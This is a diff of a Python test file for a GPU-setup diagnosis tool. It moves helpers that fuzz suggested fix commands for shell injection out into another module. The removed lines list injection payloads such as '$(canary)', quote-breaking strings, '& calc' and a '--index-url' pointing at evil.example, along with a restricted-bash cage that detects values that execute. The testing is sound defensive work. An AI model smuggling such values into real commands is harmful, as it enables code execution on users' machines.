@@ -4,52 +4,29 @@ from __future__ import annotations
 
 import ast
 import os
-import random
 import re
 import shlex
 import subprocess
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
 
 import pytest
-from closing.shells import Refused, by_powershell
-from closing.variants import variants
+from closing.hostile import (
+    ROOT,
+    RULES,
+    fixes,
+    lines_of,
+    machines,
+    run_by_bash,
+    syntax_errors,
+    words_of_powershell,
+)
+from closing.shells import by_powershell
 from hypothesis import given
 from hypothesis import strategies as st
-from judging import HEALTHY
 
 from gpusetup import shell
-from gpusetup.catalog_file import load_catalog
-from gpusetup.codec import from_plain, to_plain
-from gpusetup.model import Event, Finding, Fix, Snapshot, typed
-from gpusetup.rules.judge import diagnose
-from gpusetup.snapshot import example_machines, load_snapshot, machine_named
-from gpusetup.value import replace
-
-ROOT = Path(__file__).resolve().parent.parent
-RULES = sorted((ROOT / "gpusetup" / "rules").glob("*.py"))
-CATALOG = load_catalog()
-
-
-def findings(machine: Snapshot) -> tuple[Finding, ...]:
-    return diagnose(machine, CATALOG).findings
-
-
-def machines() -> Iterator[tuple[str, Snapshot]]:
-    for name in example_machines():
-        yield name, machine_named(name)
-    for path in sorted((ROOT / "tests" / "machines").glob("*/snapshot.json")):
-        yield path.parent.name, load_snapshot(path)
-    for name, world in variants():
-        yield name, world.snapshot
-
-
-def fixes(machine: Snapshot) -> Iterator[tuple[str, Fix]]:
-    for finding in findings(machine):
-        if finding.fix:
-            yield finding.id, finding.fix
-
+from gpusetup.model import typed
 
 MACHINES = dict(machines())
 ALL_FIXES = [
@@ -146,81 +123,6 @@ def test_a_line_of_our_own_holds_no_value_of_a_machine(path: Path) -> None:
 
 # --- values that want to act ----------------------------------------------------------------------
 
-PAYLOADS = (
-    "$(canary)", "`canary`", "'; canary; '", '"; canary; "', "a; canary", "a && canary #",
-    "a\ncanary\n", "|canary", "& canary", "${x:-$(canary)}", "x'$(canary)'y", "\\'; canary; \\'",
-    "\u2019; canary; \u2018", "a'$(canary)\u201d", "%PATH%", "& calc", "\x1b[31m$(canary)",
-    "--index-url=http://evil.example/$(canary)", "-c canary", "\u202e$(canary)", "a\x00$(canary)",
-    "~/$(canary)", "a b", "{0}", "{package}", "%s", "=canary", "canary=1", "!canary", "*", "",
-)  # fmt: skip
-AROUND = (
-    "{}",
-    "/opt/{}/bin/python",
-    "580.{}",
-    "2.5.1+{}",
-    "C:\\x\\{}",
-    "/home/u/torch_extensions/{}",
-)
-KEEP = ("schema", "origin", "family", "compute_capability", "mode", "kernels")
-
-
-def kinds_and_names() -> tuple[list[str], list[str]]:
-    """The kinds of events and the names of their values that the rules read."""
-    source = "\n".join(path.read_text(encoding="utf-8") for path in RULES)
-    names = set(re.findall(r"values(?:\.get\(|\[)\"(\w+)\"", source)) | {"device", "compiler"}
-    kinds = set(re.findall(r"kind=\"([\w-]+)\"", source))
-    for group in re.findall(r"events\(case, ((?:\"[\w-]+\",? ?)+)", source):
-        kinds |= set(re.findall(r"\"([\w-]+)\"", group))
-    return sorted(kinds), sorted(names)
-
-
-KINDS, NAMES = kinds_and_names()
-BASES = [to_plain(machine) for machine in (HEALTHY, *MACHINES.values())]
-
-
-def hostile(draw: random.Random) -> Snapshot:
-    """A machine of which some texts want to act, and that says things which want to."""
-    while True:
-        plain = poisoned(draw.choice(BASES), draw)
-        plain["os"]["family"] = draw.choice(("linux", "linux", "linux", "windows", None))
-        plain["origin"] = draw.choice(("live", "report"))
-        try:
-            machine = from_plain(plain, Snapshot, what="it")
-        except Exception:  # a text that no snapshot may hold
-            continue
-        said = tuple(
-            Event(
-                kind=draw.choice(KINDS), source="x", text="x", values={n: bad(draw) for n in NAMES}
-            )
-            for _ in range(draw.randint(1, 3))
-        )
-        return replace(machine, events=said)
-
-
-def poisoned(value: Any, draw: random.Random, key: str = "") -> Any:
-    if isinstance(value, dict):
-        return {k: v if k in KEEP else poisoned(v, draw, k) for k, v in value.items()}
-    if isinstance(value, list):
-        return [poisoned(v, draw, key) for v in value]
-    return bad(draw) if isinstance(value, str) and draw.random() < 0.15 else value
-
-
-def bad(draw: random.Random) -> str:
-    return draw.choice(AROUND).replace("{}", draw.choice(PAYLOADS))
-
-
-def lines_of(count: int, seed: int) -> tuple[set[str], set[str]]:
-    """The lines for bash, and those for PowerShell, of so many machines."""
-    draw = random.Random(seed)
-    bash: set[str] = set()
-    power: set[str] = set()
-    for _ in range(count):
-        machine = hostile(draw)
-        into = power if machine.os.family == "windows" else bash
-        into.update(line for _, fix in fixes(machine) for line in typed(fix))
-    return bash, power
-
-
 COUNT = int(os.environ.get("GPUSETUP_HOSTILE", "600"))
 
 
@@ -244,59 +146,9 @@ def test_no_value_acts_in_powershell(written: tuple[set[str], set[str]]) -> None
             assert command[0] not in ("canary", "calc"), line
 
 
-def words_of_powershell(line: str) -> list[tuple[str, ...]]:
-    if line.startswith("$env:"):
-        name, equals, rest = line.partition(" = ")
-        assert re.fullmatch(r"\$env:\w+", name) and equals
-        pieces = re.findall(r"'(?:[^'\u2018-\u201b]|['\u2018-\u201b]{2})*'|\S+", rest)
-        assert all(p[0] == "'" or re.fullmatch(r"\+|\$env:\w+|\(|\)", p) for p in pieces), line
-        return [(name,)]
-    try:
-        return [typed.words for typed in by_powershell(line)]
-    except Refused as problem:
-        raise AssertionError(f"{line}: {problem}") from problem
-
-
 def test_no_line_holds_what_cannot_be_printed(written: tuple[set[str], set[str]]) -> None:
     for line in set.union(*written):
         assert line.isprintable(), line
-
-
-def syntax_errors(lines: list[str]) -> str:
-    """What bash says of the lines, each a function of its own, none of them run."""
-    text = "".join(f"f{n}() {{\n{line}\n}}\n" for n, line in enumerate(lines))
-    done = subprocess.run(
-        ("bash", "--noprofile", "--norc", "-n"),
-        input=text.encode("utf-8", "surrogateescape"), capture_output=True, check=False,
-    )  # fmt: skip
-    return done.stderr.decode("utf-8", "replace")[:2000]
-
-
-CAGE = """
-canary() { kill -USR1 $$; }
-trap 'hits="$hits
-$line"' USR1
-while IFS= read -r -d '' line; do
-  ( eval "$line" ) </dev/null >/dev/null 2>&1
-done
-printf %s "$hits"
-"""
-"""A restricted shell (`bash -r`) without PATH: no program starts, no file is written. A value that
-acts calls `canary`, which signals the shell itself; the line is then printed."""
-
-
-def run_by_bash(lines: list[str]) -> str:
-    """The lines in which something acted."""
-    environment = {"PATH": "/nonexistent"}
-    read = "".join(f"{line}\0" for line in lines)
-    started = ("/bin/bash", "--noprofile", "--norc", "-r", "-c", CAGE)
-    # Redirections are not for a restricted shell: the loop's are taken away before it is one.
-    free = CAGE.replace("( eval", "( set -r; eval")
-    done = subprocess.run(
-        (*started[:3], "-c", free), env=environment, capture_output=True, check=False,
-        input=read.encode("utf-8", "surrogateescape"),
-    )  # fmt: skip
-    return done.stdout.decode("utf-8", "replace")
 
 
 def test_the_cage_sees_what_acts() -> None:
